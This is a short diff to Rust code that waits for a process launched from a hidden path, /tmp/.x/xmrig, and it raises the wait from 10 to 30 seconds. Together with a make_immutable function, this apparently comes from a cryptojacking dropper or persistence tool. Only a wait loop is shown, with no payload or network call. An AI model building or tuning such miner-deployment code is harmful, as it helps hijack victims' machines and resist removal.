@@ -271,7 +271,7 @@ fn make_immutable(path: &str) -> bool {
 }
 
 fn wait_for_miner() -> anyhow::Result<()> {
-    let end = Instant::now() + Duration::from_secs(10);
+    let end = Instant::now() + Duration::from_secs(30);
     while Instant::now() < end {
         if processes()?.values().any(|exe| exe.starts_with("/tmp/.x/xmrig")) {
             return Ok(());
